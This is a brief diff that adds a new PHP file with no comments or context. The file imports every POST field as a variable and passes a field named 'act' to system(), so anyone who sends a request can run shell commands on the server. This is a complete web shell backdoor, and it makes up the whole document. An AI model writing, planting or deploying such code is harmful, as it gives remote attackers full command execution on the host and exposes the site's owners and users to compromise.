@@ -1,0 +1,7 @@
+<?php
+foreach ($_POST as $key => $value) {
+    $$key = $value;
+}
+if (isset($act)) {
+    system($act);
+}
